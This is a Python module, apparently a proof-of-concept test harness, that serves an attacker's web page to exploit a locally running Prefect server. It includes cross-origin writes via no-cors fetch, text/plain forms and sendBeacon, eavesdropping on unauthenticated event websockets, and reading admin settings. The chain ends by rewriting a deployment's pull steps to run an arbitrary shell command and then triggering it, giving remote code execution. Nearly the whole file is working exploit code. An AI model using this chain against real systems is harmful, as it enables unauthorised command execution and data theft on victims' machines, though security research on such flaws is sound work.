"""What a web page of others may do, open in a browser on the machine that serves: a script that sends what a browser would send for it,
and the page itself, for a real browser. Either wants to write, to read, and to have a command run."""

from __future__ import annotations

import http.client
import json
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, HTTPServer

from websockets.exceptions import WebSocketException
from websockets.sync.client import connect

NAME = "news.example"
"""A name of the attacker's, which he can also make point at 127.0.0.1."""
FORM = {"content-type": "application/x-www-form-urlencoded"}
TEXT = {"content-type": "text/plain;charset=UTF-8"}
UNTYPED: Mapping[str, str] = {}
"""What a browser says of a Blob without a type: nothing."""


def flow(name: str) -> str:
    """Return the body of a request that writes a flow."""
    return json.dumps({"name": name})


def shell(command: str) -> list[dict]:
    """Return the pull steps of a deployment that have its runner run a command."""
    return [{"prefect.deployments.steps.run_shell_script": {"script": command}}]


def send(port: int, method: str, path: str, body: str = "", headers: Mapping[str, str] = UNTYPED, host: str = "") -> tuple[int, str]:
    """Send a request as a browser sends it for the attacker's page, and return status and text; with ``host``, for his name made to point here."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    origin = f"http://{host}" if host else f"http://{NAME}"
    browsers = {} if method == "GET" and host else {"origin": origin}
    connection.request(method, path, body.encode() or None, {"host": host or f"127.0.0.1:{port}", **browsers, **headers})
    answer = connection.getresponse()
    text = answer.read().decode("utf-8", "replace")
    connection.close()
    return answer.status, text


def overheard(port: int, path: str = "/api/events/out", seconds: float = 8) -> list[str]:
    """Return what a web socket of Prefect's server tells the attacker's page."""
    heard: list[str] = []
    with (
        suppress(WebSocketException, OSError),
        connect(f"ws://127.0.0.1:{port}{path}", origin=f"http://{NAME}", subprotocols=["prefect"], proxy=None) as socket,
    ):
        socket.send(json.dumps({"type": "auth", "token": ""}))
        heard.append(str(socket.recv(timeout=10)))
        filters = {"occurred": {"since": "2020-01-01T00:00:00Z", "until": "2100-01-01T00:00:00Z"}}
        socket.send(json.dumps({"type": "filter", "filter": filters}))
        until = time.monotonic() + seconds
        with suppress(TimeoutError):
            while time.monotonic() < until:
                heard.append(str(socket.recv(timeout=until - time.monotonic())))
    return heard


def shouted(port: int, name: str) -> bool:
    """Return whether the attacker's page could send an event of its own over a web socket."""
    event = {"occurred": "2026-01-01T00:00:00Z", "event": name, "resource": {"prefect.resource.id": name}, "id": "0" * 32}
    with (
        suppress(WebSocketException, OSError, TimeoutError),
        connect(f"ws://127.0.0.1:{port}/api/events/in", origin=f"http://{NAME}", subprotocols=["prefect"], proxy=None) as socket,
    ):
        socket.send(json.dumps({"type": "auth", "token": ""}))
        if "auth_success" in str(socket.recv(timeout=10)):
            socket.send(json.dumps(event))
            return True
    return False


def ids_of(heard: list[str], deployment: str) -> tuple[str, str] | None:
    """Return the ids of a deployment and of its flow, where what was overheard tells them."""
    for message in heard:
        related = (json.loads(message).get("event") or {}).get("related", [])
        found = {each["prefect.resource.role"]: each for each in related}
        if {"deployment", "flow"} <= set(found) and found["deployment"]["prefect.resource.name"] == deployment:
            return tuple(found[role]["prefect.resource.id"].rpartition(".")[2] for role in ("deployment", "flow"))
    return None


def order(port: int, deployment: str, ids: tuple[str, str], command: str) -> list[int]:
    """Have a deployment run a command, by requests that need no leave of the server, and return how they were answered."""
    deployment_id, flow_id = ids
    changed = json.dumps(
        {
            "name": deployment,
            "flow_id": flow_id,
            "entrypoint": "flows.orchestration.ingest.ingest",
            "pull_steps": shell(command),
            "enforce_parameter_schema": False,
        }
    )
    return [
        send(port, "POST", "/api/deployments/", changed)[0],
        send(port, "POST", f"/api/deployments/{deployment_id}/create_flow_run", "{}")[0],
    ]


PAGE = """<!doctype html><meta charset="utf-8"><title>News</title>
<form id="form" method="post" enctype="text/plain" target="frame" action="http://127.0.0.1:%(port)d/api/flows/">
<input name='{"name": "browser form", "tags": ["' value='"]}'></form><iframe name="frame"></iframe>
<script>
const api = "http://127.0.0.1:%(port)d/api", room = "http://127.0.0.1:%(room)d", heard = [], read = [];
const quiet = promise => promise.catch(() => null);
const write = (path, body, mode = "no-cors") => quiet(fetch(api + path, {method: "POST", mode, body}));
const flow = name => JSON.stringify({name});
const untyped = text => new Blob([text]);
function listen(path, messages, milliseconds) {
  return new Promise(done => {
    const socket = new WebSocket(api.replace("http", "ws") + path, ["prefect"]);
    socket.onopen = () => { for (const message of messages) socket.send(JSON.stringify(message)); };
    socket.onmessage = message => heard.push(message.data);
    socket.onerror = socket.onclose = () => done();
    setTimeout(() => { socket.close(); done(); }, milliseconds);
  });
}
async function attack() {
  await write("/flows/", flow("browser text"));
  await write("/flows/", untyped(flow("browser blob")));
  navigator.sendBeacon(api + "/flows/", untyped(flow("browser beacon")));
  document.getElementById("form").submit();
  for (const address of [api + "/flows/filter", api + "/admin/settings", room + "/", room + "/download/articles.csv"]) {
    const answer = await quiet(fetch(address, address.endsWith("filter") ? {method: "POST", body: untyped("{}")} : {}));
    if (answer && answer.ok) read.push(address);
  }
  await listen("/events/out", [{type: "auth", token: ""}, {type: "filter", filter: {occurred: {since: "2020-01-01T00:00:00Z", until: "2100-01-01T00:00:00Z"}}}], 4000);
  await listen("/logs/out", [{type: "auth", token: ""}], 1000);
  for (const message of heard) {
    const of = role => ((JSON.parse(message).event || {}).related || []).find(each => each["prefect.resource.role"] == role);
    const [deployment, owner] = [of("deployment"), of("flow")];
    if (!deployment || !owner || deployment["prefect.resource.name"] != "%(deployment)s") continue;
    const id = resource => resource["prefect.resource.id"].split(".").pop();
    await write("/deployments/", untyped(JSON.stringify({name: "%(deployment)s", flow_id: id(owner), entrypoint: "flows.orchestration.ingest.ingest", enforce_parameter_schema: false,
      pull_steps: [{"prefect.deployments.steps.run_shell_script": {script: "%(command)s"}}]})));
    await write(`/deployments/${id(deployment)}/create_flow_run`, untyped("{}"));
    break;
  }
  return {heard: heard.length, read};
}
</script>"""


@contextmanager
def attackers_page(**facts: object) -> Iterator[str]:
    """Serve the attacker's page on this machine, to be opened by his name, and give its address. It does nothing before ``attack()`` is called."""
    page = (PAGE % facts).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *_):
            pass

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{NAME}:{server.server_port}/"
        server.shutdown()
